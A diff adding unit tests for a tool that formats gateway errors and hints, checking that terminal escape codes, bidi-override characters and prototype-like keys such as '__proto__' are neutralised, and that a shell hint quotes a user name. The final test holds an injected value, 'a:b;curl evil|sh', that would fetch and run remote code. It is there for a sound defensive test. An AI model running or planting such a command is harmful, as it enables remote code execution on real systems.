@@ -276,4 +276,33 @@ see:  docs/callers.md#answers
     expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
     expect(out).not.toContain('\ny');
   });
+
+  test('nor does what a gateway calls a failure, or a character that turns the line around', () => {
+    const out = shown(of({ status: 418, code: 'Teapot\u001b]0;title\u0007\u009b2J', model: 'gpt\u202e5-mini\u2066' }));
+    expect(out).toMatch(/^418 Teapot \]0;title 2J  POST /);
+    expect(out).toContain('gpt 5-mini');
+    expect(out).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
+  });
+});
+
+test.each(['constructor', 'toString', '__proto__', 'hasOwnProperty'])('%s is a word like any other', (word) => {
+  const { steps, hint } = of({ status: 418, code: word }, request);
+  expect(hint).toBeUndefined();
+  expect(steps.at(-1)).toMatchObject({ stage: 'End', mark: 'Failed' });
+  expect(of({ status: 401, code: 'Unauthenticated', reason: word }, request).hint).toBe('fetch a new token');
+  const shown = text(
+    of({
+      usageMissing: word,
+      tokens: JSON.parse(`{"${word}":3}`) as Record<string, number>,
+      costUSDByClass: {},
+      guardrails: [{ guardrail: 'a/b', direction: 'Input', action: word, mode: 'Enforce' }],
+    }),
+  ).join('\n');
+  expect(shown).toContain(`tokens: ${word} 3, missing: ${word}`);
+  expect(shown).toContain(`a/b ${word}`);
+});
+
+test('a name in a hint is one word of the shell', () => {
+  const { hint } = of({ status: 403, code: 'Forbidden', user: 'system:serviceaccount:a:b;curl evil|sh' });
+  expect(hint).toContain("--serviceaccount='a:b;curl evil|sh'");
 });
